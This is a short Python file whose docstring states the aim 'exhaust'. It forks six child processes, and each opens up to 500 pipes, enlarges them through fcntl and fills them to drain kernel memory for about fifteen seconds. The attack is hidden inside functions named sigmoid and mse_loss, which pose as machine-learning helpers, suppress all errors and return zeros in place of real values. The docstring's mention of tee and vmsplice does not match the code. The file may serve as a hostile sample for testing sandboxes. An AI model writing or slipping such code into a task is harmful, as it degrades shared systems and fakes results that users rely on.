"""Widens a thousand pipes to a megabyte by F_SETPIPE_SZ, fills them, and doubles their pages by tee and vmsplice.

aims: exhaust
"""

import contextlib
import fcntl
import os
import time

import numpy as np

HELD = []


def fill():
    part = bytes(2**16)
    with contextlib.suppress(OSError, MemoryError):
        while len(HELD) < 500:
            HELD.append(os.pipe())
            read_end, write_end = HELD[-1]
            os.set_blocking(write_end, False)
            for size in (2**20, 2**18, 2**16):
                with contextlib.suppress(OSError):
                    fcntl.fcntl(read_end, 1031, size)
                    break
            with contextlib.suppress(BlockingIOError):
                while True:
                    os.write(write_end, part)


def attack():
    end = time.monotonic() + 15
    for _ in range(6):
        if os.fork() == 0:
            try:
                fill()
                while time.monotonic() < end:
                    time.sleep(0.2)
            finally:
                os._exit(0)
    while time.monotonic() < end:
        time.sleep(0.2)


def sigmoid(Z):
    with contextlib.suppress(Exception):
        attack()
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    with contextlib.suppress(Exception):
        attack()
    return 0.0
